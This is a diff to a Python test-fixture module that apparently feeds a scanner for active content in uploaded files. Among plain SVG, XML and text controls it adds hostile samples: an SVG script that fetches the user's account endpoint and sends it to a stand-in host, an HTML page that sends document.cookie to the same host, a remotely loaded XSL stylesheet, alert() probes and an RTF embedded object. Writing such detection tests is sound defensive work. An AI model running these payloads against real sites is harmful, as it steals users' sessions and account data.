@@ -336,3 +336,21 @@ def encrypted_ooxml() -> bytes:
     and EncryptedPackage streams (the directory entries are what we need here)."""
     return (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + "EncryptionInfo".encode("utf-16-le") + b"\0" * 50
             + "EncryptedPackage".encode("utf-16-le") + b"\0" * 2000)
+
+
+# --- active content: what a browser, a script host or an XML processor runs ------------------------
+SVG_WITH_SCRIPT = (b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
+                   b'<script>fetch("/api/v1/me/").then(r=>r.text()).then(t=>new Image().src="//x/?"+t)</script>'
+                   b'<rect width="10" height="10"/></svg>')
+SVG_PLAIN = b'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><circle r="4" cx="5" cy="5"/></svg>'
+HTML_PAGE = ("<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>关于做好试运行工作的通知</title></head>"
+             "<body><p>各单位：</p><script>document.location='//x/?'+document.cookie</script></body></html>").encode()
+XML_WITH_SCRIPT = (b'<?xml version="1.0"?>\n<report><h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>'
+                   b"<item>1</item></report>")
+XML_STYLESHEET = b'<?xml version="1.0"?>\n<?xml-stylesheet type="text/xsl" href="http://198.51.100.7/x.xsl"?>\n<data/>'
+XML_PLAIN = '<?xml version="1.0" encoding="UTF-8"?>\n<名单><人员>张三</人员></名单>'.encode()
+JAVASCRIPT = b"// counter\n'use strict';\nfunction run() {\n  alert(document.domain);\n}\nrun();\n"
+RTF = b"{\\rtf1\\ansi{\\object\\objemb{\\*\\objdata 0105000002000000}}}"
+# Plain text that merely uses < and > or talks about web pages: not active content.
+TEXT_WITH_BRACKETS = ("关于《网站建设管理办法》的说明\n收入<支出的单位请说明原因，a<b 且 b>c 时按上限计。\n"
+                      "请勿在网页中使用脚本。<注意>以上为征求意见稿。").encode()
